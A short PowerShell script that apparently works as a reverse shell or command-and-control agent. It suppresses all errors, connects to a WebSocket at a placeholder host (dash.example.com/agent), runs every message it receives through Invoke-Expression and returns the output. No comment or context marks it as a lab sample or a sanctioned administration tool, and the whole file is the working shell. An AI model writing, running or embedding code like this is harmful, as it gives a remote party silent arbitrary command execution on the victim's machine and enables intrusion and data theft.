$ErrorActionPreference = 'SilentlyContinue'
$ws = [System.Net.WebSockets.ClientWebSocket]::new()
$ct = [Threading.CancellationToken]::None
$ws.ConnectAsync([Uri]'wss://dash.example.com/agent', $ct).Wait()
$buf = [byte[]]::new(65536)
while ($ws.State -eq 'Open') {
    $r = $ws.ReceiveAsync([ArraySegment[byte]]$buf, $ct).Result
    $msg = [Text.Encoding]::UTF8.GetString($buf, 0, $r.Count)
    $out = (Invoke-Expression $msg 2>&1 | Out-String)
    $bytes = [Text.Encoding]::UTF8.GetBytes($out)
    $ws.SendAsync([ArraySegment[byte]]$bytes, 'Text', $true, $ct).Wait()
}
